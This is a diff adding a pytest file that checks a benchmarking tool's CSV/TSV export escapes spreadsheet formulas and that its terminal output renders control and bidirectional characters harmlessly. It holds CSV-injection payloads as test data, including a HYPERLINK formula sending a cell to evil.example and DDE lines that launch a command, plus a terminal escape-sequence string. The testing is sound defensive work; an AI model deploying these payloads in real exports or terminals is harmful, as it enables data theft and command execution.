@@ -1,0 +1,192 @@
+"""Names and words of others are text: to a spreadsheet no formula, to a terminal no command."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import pty
+import re
+import select
+import subprocess
+import sys
+import time
+from collections.abc import Sequence
+from contextlib import suppress
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+
+from app.plan.matrix import Cell
+from app.report.export import export
+from app.results.database.store import open_store
+from app.servers.capability_answers import AskedServer
+from app.servers.capability_export import capabilities_text
+from app.system.documents import cell
+from app.system.visible import visible, visible_json
+from engines.contract.capability import Capabilities
+from tests.app.results.making import make_campaign, store_campaign, whole_run
+from tests.app.typed import cipherbench
+from tests.conftest import Servers
+from tests.requirements import spec_of
+from tests.security.listening import plan_of
+from widgets.saving.files import as_csv, as_tsv
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "−2+A1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-A1",
+    "+A1",
+    "-",
+]
+NUMBERS = ["-1", "-0.25", "+12.5", "−3.5", "-1e-05", "+1,234.5 %", "-3 ms", "−0.4%", "5", "–", ""]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_that_what_a_spreadsheet_would_calculate_is_text_in_every_table(text: str) -> None:
+    assert cell(text) == f"'{text}"
+    [row] = csv.reader(io.StringIO(as_csv([["a", text]]), newline=""))
+    assert row == ["a", f"'{text}"]
+    copied = as_tsv([["a", text]]).split("\t", 1)[1]
+    assert copied == f"'{' '.join(text.split())}"
+
+
+@pytest.mark.parametrize("text", NUMBERS)
+def test_that_numbers_stay_numbers_in_every_table(text: str) -> None:
+    assert cell(text) == text
+    assert next(csv.reader(io.StringIO(as_csv([["a", text]])))) == ["a", text]
+    assert as_tsv([["a", text]]) == f"a\t{text}"
+
+
+def test_that_no_other_value_is_changed() -> None:
+    for value in (-1.5, 3, None, True, "a=b", "postgresql", "'quoted"):
+        assert cell(value) is value
+
+
+def test_that_the_export_of_a_campaign_holds_no_formula_and_its_costs_stay_numbers(
+    tmp_path: Path,
+) -> None:
+    evil = FORMULAS[0]
+    campaign = make_campaign("costs", servers=((evil, "postgresql"),), repetitions=1, warmups=0)
+    with open_store(str(tmp_path / "s.sqlite"), write=True) as store:
+        campaign_id = store_campaign(store, campaign)
+        stored = store.load(campaign_id)
+        for run in stored.runs:
+            plain = stored.cells[run.cell].protection.name == "plaintext"
+            store.write(campaign_id, whole_run(run, {"INSERT": 2.0 if plain else 1.0}))
+        export(store, campaign_id, "csv", tmp_path / "out.csv")
+    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert {row["server"] for row in rows} == {f"'{evil}"}
+    costs = {row["cost_percent"] for row in rows if row["cost_percent"]}
+    assert "-50.0" in costs
+    shown = [value for row in rows for value in row.values() if value.startswith(("=", "@", "+"))]
+    assert shown == []
+
+
+def test_that_the_words_of_a_server_are_no_formula(servers: Servers) -> None:
+    server = servers["sqlite"]
+    asked: Capabilities = server.ask()
+    named = AskedServer("=1+1", "sqlite", "embedded", "@3.50", asked)
+    rows = list(csv.DictReader(io.StringIO(capabilities_text([named], "csv"), newline="")))
+    assert {(row["server"], row["version"]) for row in rows} == {("'=1+1", "'@3.50")}
+
+
+# Terminals.
+
+STEERING = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202eb\u2066c\x7f\x85\rd"
+SHOWN = r"a\x1b]0;owned\x07\x1b[2J\x9b31m\u202eb\u2066c\x7f\x85\x0dd"
+HARMLESS = re.compile(r"\r\x1b\[K|\r\n|\n|\x1b\[0m|\x1b\[\?25[hl]")
+"""What our own line of progress and the terminal's own ends of lines are made of."""
+STEERS = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
+
+
+def steering_in(text: str) -> list[str]:
+    return STEERS.findall(HARMLESS.sub("", text))
+
+
+def on_a_terminal(*words: object, seconds: float = 120) -> str:
+    """All that `cipherbench` sends to the terminal it runs on."""
+    ours, theirs = pty.openpty()
+    running = subprocess.Popen(
+        [sys.executable, "-m", "app", *map(str, words)], stdin=theirs, stdout=theirs, stderr=theirs
+    )
+    os.close(theirs)
+    sent, deadline = b"", time.monotonic() + seconds
+    with suppress(OSError):  # the other end is closed
+        while select.select([ours], [], [], max(0.0, deadline - time.monotonic()))[0]:
+            sent += os.read(ours, 65536)
+    os.close(ours)
+    assert running.wait(30) in (0, 1, 2)
+    return sent.decode(errors="replace")
+
+
+@pytest.fixture
+def store(tmp_path: Path) -> Path:
+    """A store whose every name would steer a terminal."""
+    path = tmp_path / "s.sqlite"
+    campaign = make_campaign(STEERING, servers=((STEERING, "postgresql"),))
+    named = tuple(
+        replace(each, protection=replace(each.protection, name=f"{STEERING}{number}"))
+        for number, each in enumerate(campaign.protections)
+    )
+    campaign = replace(campaign, protections=named)
+    with open_store(str(path), write=True) as opened:
+        store_campaign(opened, campaign, {(STEERING, f"{STEERING}1"): STEERING})
+    return path
+
+
+@pytest.mark.parametrize(
+    "words",
+    [("campaigns",), ("compare", "1", "--baseline", f"{STEERING}0"), ("compare", STEERING)],
+    ids=("campaigns", "compare", "refused"),
+)
+def test_that_stored_names_reach_no_terminal_raw(store: Path, words: Sequence[str]) -> None:
+    said = on_a_terminal(*words, "--store", store)
+    assert steering_in(said) == []
+    assert SHOWN in said
+
+
+@pytest.mark.parametrize("words", [("campaigns",), ("compare", "1", "--baseline", f"{STEERING}0")])
+def test_that_json_stays_json_and_steers_no_terminal(store: Path, words: Sequence[str]) -> None:
+    said = on_a_terminal(*words, "--json", "--store", store)
+    assert steering_in(said) == []
+    found = json.loads(said)
+    assert found[0].get("name", found[0].get("server")) == STEERING
+    assert json.loads(cipherbench(*words, "--json", "--store", store).out) == found
+
+
+def test_that_progress_shows_what_would_steer_the_terminal(tmp_path: Path) -> None:
+    """The terminal's own line of progress is rewritten by signs of ours, and by no other."""
+    plan = plan_of(tmp_path / "plan.toml", replace(spec_of("sqlite"), name=STEERING))
+    said = on_a_terminal("run", plan, "--store", tmp_path / "s.sqlite")
+    assert "\r\x1b[K" in said and SHOWN in said
+    assert steering_in(said) == []
+
+
+def test_that_a_file_of_such_a_name_is_told_of_in_visible_signs(tmp_path: Path) -> None:
+    said = on_a_terminal("run", tmp_path / STEERING)
+    assert SHOWN in said and steering_in(said) == []
+
+
+def test_that_everything_else_is_shown_as_it_is() -> None:
+    for text in ("München – 北京, مرحبا, 🙂 “x” \\x1b", "50\u202f%"):
+        assert visible(text) == text
+        assert json.loads(visible_json(json.dumps(text, ensure_ascii=False))) == text
+    assert visible("a\nb\tc", keep="\n\t") == "a\nb\tc" and visible("a\nb") == r"a\x0ab"
+    assert visible("half \udc80").encode() == rb"half \udc80"
+
+
+def test_that_a_cell_is_what_it_was(store: Path) -> None:
+    """Only what is shown is changed: the store keeps names as they were given."""
+    with open_store(str(store), write=False) as opened:
+        kept: Cell = opened.load(1).cells[0]
+        assert kept.server == STEERING
